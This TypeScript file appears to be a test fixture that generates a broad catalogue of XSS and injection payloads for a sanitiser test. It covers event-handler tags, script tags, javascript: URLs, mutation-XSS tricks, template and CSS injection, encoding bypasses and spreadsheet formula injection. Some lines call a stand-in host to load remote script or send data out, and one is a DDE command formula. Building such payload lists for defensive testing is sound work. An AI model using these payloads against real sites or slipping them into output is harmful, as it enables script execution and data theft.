/** Where what got out would go; nothing listens there. */
const ELSEWHERE = 'https://elsewhere.example'
/** What ran says so by this; see xss.test.ts. */
const RUN = 'xss()'

/** Texts that become something else where a page takes them for markup, an address, a style or a formula. At most 120 characters. */
export const PAYLOADS: readonly string[] = [
  ...new Set([
    ...handlers(),
    ...scripts(),
    ...addresses(),
    ...requests(),
    ...parsers(),
    ...templates(),
    ...styles(),
    ...characters(),
    ...formulas(),
  ]),
].filter((payload) => payload.length <= 120)

/** Elements that run something by themselves, spelt and broken out of their surroundings in every usual way. */
function handlers(): string[] {
  const elements = [
    ['img src=x', 'onerror'],
    ['svg', 'onload'],
    ['body', 'onload'],
    ['body', 'onpageshow'],
    ['video src=x', 'onerror'],
    ['audio src=x', 'onerror'],
    ['video><source', 'onerror'],
    ['details open', 'ontoggle'],
    ['input autofocus', 'onfocus'],
    ['select autofocus', 'onfocus'],
    ['textarea autofocus', 'onfocus'],
    ['a tabindex=1 autofocus', 'onfocus'],
    ['marquee', 'onstart'],
    ['iframe', 'onload'],
    ['object data=x', 'onerror'],
    ['embed src=/', 'onload'],
    ['style', 'onload'],
    ['link rel=stylesheet href=x', 'onerror'],
    ['svg><animate attributeName=x dur=1s', 'onbegin'],
    ['svg><set attributeName=x dur=1s', 'onbegin'],
    ['svg><image href=x', 'onerror'],
    ['xss style=animation:spin', 'onanimationstart'],
    ['p contenteditable autofocus', 'onfocus'],
  ] as const
  const spellings: ((element: string, event: string) => string)[] = [
    (element, event) => `<${element} ${event}=${RUN}>`,
    (element, event) => `<${element.toUpperCase()} ${event.toUpperCase()}=${RUN}>`,
    (element, event) => `<${element.replaceAll(' ', '/')}/${event}="${RUN}"//`,
    (element, event) => `<${element}\n${event}\t=\n'${RUN}'>`,
    (element, event) => `"><${element} ${event}=${RUN}>`,
    (element, event) => `'><${element} ${event}=${RUN}>`,
    (element, event) => `--><${element} ${event}=${RUN}>`,
    (element, event) => `</script><${element} ${event}=${RUN}>`,
    (element, event) => `</title></style></textarea><${element} ${event}=${RUN}>`,
    (element, event) => `<${element} ${event}=&#120;&#x73;s&lpar;&rpar;>`,
    (element, event) => `</option></select></optgroup><${element} ${event}=${RUN}>`,
    (element, event) => `<${element} ${event}=${RUN} x="`,
  ]
  return elements.flatMap(([element, event]) => spellings.map((spell) => spell(element, event)))
}

function scripts(): string[] {
  const plain = [
    `<script>${RUN}</script>`,
    `<script src=${ELSEWHERE}/a.js></script>`,
    `<script type=module>${RUN}</script>`,
    `<script>import('${ELSEWHERE}/a.js')</script>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<SCRIPT>${RUN}</SCRIPT>`,
    `<script\n>${RUN}</script\n>`,
    `<script/x>${RUN}</script>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><script href=${ELSEWHERE}/a.js />`,
  ]
  return ['', '"', "'>", '</title>', '<!--', ']]>'].flatMap((before) => plain.map((text) => before + text))
}

/** Addresses that run something, bare and in whatever takes one. */
function addresses(): string[] {
  const found = [
    `javascript:${RUN}`,
    `JaVaScRiPt:${RUN}`,
    `java\nscript:${RUN}`,
    `java\tscript:${RUN}`,
    `\u0001javascript:${RUN}`,
    ` javascript:${RUN}`,
    `javascript://%0a${RUN}`,
    `javascript&colon;${RUN}`,
    `&#106;avascript:${RUN}`,
    `data:text/html,<script>${RUN}</script>`,
    `vbscript:${RUN}`,
  ]
  const places = [
    (url: string) => url,
    (url: string) => `<a href="${url}">x</a>`,
    (url: string) => `<iframe src="${url}">`,
    (url: string) => `<form><button formaction="${url}">x`,
    (url: string) => `<object data="${url}">`,
    (url: string) => `<svg><a xlink:href="${url}"><text>x`,
    (url: string) => `[x](${url})`,
    (url: string) => `<meta http-equiv=refresh content="0;url=${url}">`,
  ]
  return found.flatMap((url) => places.map((place) => place(url)))
}

/** What fetches without running anything: it tells somebody who reads. */
function requests(): string[] {
  const fetching = [
    `<img src=${ELSEWHERE}/1>`,
    `<img srcset="${ELSEWHERE}/1 1x">`,
    `<input type=image src=${ELSEWHERE}/1>`,
    `<link rel=stylesheet href=${ELSEWHERE}/1>`,
    `<link rel=prefetch href=${ELSEWHERE}/1>`,
    `<link rel=dns-prefetch href=${ELSEWHERE}>`,
    `<style>@import '${ELSEWHERE}/1'</style>`,
    `<p style="background:url(${ELSEWHERE}/1)">x`,
    `<iframe src=${ELSEWHERE}/1>`,
    `<video poster=${ELSEWHERE}/1>`,
    `<base href=${ELSEWHERE}/>`,
    `<svg><image href=${ELSEWHERE}/1>`,
    `<svg><use href=${ELSEWHERE}/1#x>`,
    `<table background=${ELSEWHERE}/1>`,
    `<img src='${ELSEWHERE}/1?`,
  ]
  return ['', '">'].flatMap((before) => fetching.map((text) => before + text))
}

/** What is harmless until it has been written and read once more. */
function parsers(): string[] {
  return [
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
    `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
    `<template><img src=x onerror=${RUN}></template>`,
    `<div><template shadowrootmode=open><img src=x onerror=${RUN}>`,
    `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
    `<a title="\`><img src=x onerror=${RUN}>">`,
    `<iframe srcdoc="<img src=x onerror=parent.${RUN}>">`,
    `<iframe srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;">`,
    `<![CDATA[<img src=x onerror=${RUN}>]]>`,
    `<?xml version="1.0"?><img src=x onerror=${RUN}>`,
    `<select><option><style></option></select><img src=x onerror=${RUN}>`,
  ]
}

function templates(): string[] {
  const inside = `constructor.constructor('${RUN}')()`
  return [
    `{{${inside}}}`,
    `{{$on.${inside}}}`,
    `\${${RUN}}`,
    `\`\${${RUN}}\``,
    `#{${RUN}}`,
    `<%= ${RUN} %>`,
    `[[${inside}]]`,
    `{%raw%}{{${inside}}}`,
    `');${RUN};//`,
    `";${RUN};//`,
    `\\";${RUN};//`,
    `*/${RUN}/*`,
    `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}}`,
    `{"type":"script","props":{"children":"${RUN}"}}`,
    '__proto__',
    '{"__proto__":{"innerHTML":"<img src=x>"}}',
    'constructor',
  ]
}

function styles(): string[] {
  return [
    `red;background:url(${ELSEWHERE}/1)`,
    `red}*{background:url(${ELSEWHERE}/1)}`,
    `</style><img src=x onerror=${RUN}>`,
    `expression(${RUN})`,
    `url("javascript:${RUN}")`,
    `"\\3c img src=x onerror=${RUN}\\3e`,
    `@import "${ELSEWHERE}/1";`,
  ]
}

/** The same in other letters, escapes and directions: somebody decodes once too often. */
function characters(): string[] {
  const image = `<img src=x onerror=${RUN}>`
  return [
    encodeURIComponent(image),
    encodeURIComponent(encodeURIComponent(image)),
    image.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
    image.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
    image.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
    image.replaceAll('<', '\\x3c').replaceAll('>', '\\x3e'),
    image.replaceAll('<', '＜').replaceAll('>', '＞'),
    image.replaceAll('<', '‹').replaceAll('>', '›'),
    image.replaceAll('<', '<\u200b'),
    image.replaceAll(' ', '\u00a0'),
    image.replaceAll(' ', '\u000c'),
    `\u202e${image}`,
    `\u2066${image}\u2069`,
    `\ufeff${image}`,
    `${image}\u0301`,
    image.replaceAll('=', '﹦'),
    Buffer.from(image).toString('base64'),
    `+ADw-img src=x onerror=${RUN}+AD4-`,
  ]
}

/** For whoever opens an export in a spreadsheet. */
function formulas(): string[] {
  const found = [
    `=HYPERLINK("${ELSEWHERE}/?"&A1,"x")`,
    `=IMPORTXML("${ELSEWHERE}","//a")`,
    `=WEBSERVICE("${ELSEWHERE}")`,
    "=cmd|'/c calc'!A0",
    '=1+1',
  ]
  const starts = ['', '+', '-', '@', '\t', '\r', ' ', '"', '""', ';']
  return starts.flatMap((start) => found.map((formula) => start + formula))
}
